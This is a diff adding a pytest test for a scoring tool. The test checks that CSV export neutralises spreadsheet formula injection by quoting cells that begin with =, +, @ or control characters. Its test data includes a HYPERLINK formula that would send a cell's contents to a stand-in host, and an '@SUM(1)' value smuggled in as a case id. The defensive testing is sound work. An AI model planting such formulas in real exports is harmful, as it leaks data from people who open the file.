@@ -5,6 +5,8 @@
 came back 644, runs killed while writing left hidden temporary files behind, and a directory
 that could not be written ended in a traceback after the run was already recorded.
 """
+import csv
+import io
 import os
 import stat
 import subprocess
@@ -134,3 +136,33 @@ def test_a_read_only_file_is_refused(tmp_path, monkeypatch):
     run = scoring(*SCORE, "--out", out)
     assert run.returncode == 2 and f"error: {out}: cannot write here: the file is read-only" in run.stderr
     assert out.read_text(encoding="utf-8") == "old\n"
+
+
+# ---------------------------------------------------------------- CSV opened in a spreadsheet
+
+EVIL = '=HYPERLINK("http://example.invalid/?d="&A1,"市民政局")'
+
+
+def test_csv_text_that_starts_like_a_formula_is_kept_as_text_and_numbers_stay_numbers(tmp_path):
+    text = SAMPLE.read_text(encoding="utf-8").replace("市民政局", EVIL.replace('"', '\\"'))
+    cases = tmp_path / "cases.jsonl"
+    cases.write_text(text.replace('"id": "2020-J0076"', '"id": "@SUM(1)"'), encoding="utf-8")  # a case of 市民政局
+    run = scoring("score", "--rules", REFERENCE, "--cases", cases, "--format", "csv")
+    assert run.returncode == 0, run.stderr
+    rows = list(csv.reader(io.StringIO(run.stdout)))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    departments = {row[0] for row in rows[1:]}
+    assert "'" + EVIL in departments and EVIL not in departments
+    assert "'@SUM(1)" in {row[4] for row in rows[1:]}
+    points = [row[12] for row in rows[1:]]
+    assert "-2.5" in points or "-1" in points  # negative points are numbers, written as such
+    assert all(float(p) == float(p) for p in points)
+    # the self-check's work list too
+    run = scoring("self-check", "--rules", REFERENCE, "--cases", cases, "--department", EVIL, "--as-of", "2020-06-05",
+                  "--format", "csv")
+    assert run.returncode == 0, run.stderr
+    rows = list(csv.reader(io.StringIO(run.stdout)))
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert ["at_risk", "'@SUM(1)", "L4"] in [row[:3] for row in rows]
+    assert [row[6] for row in rows[1:] if row[6].startswith("-")]  # points lost, as numbers
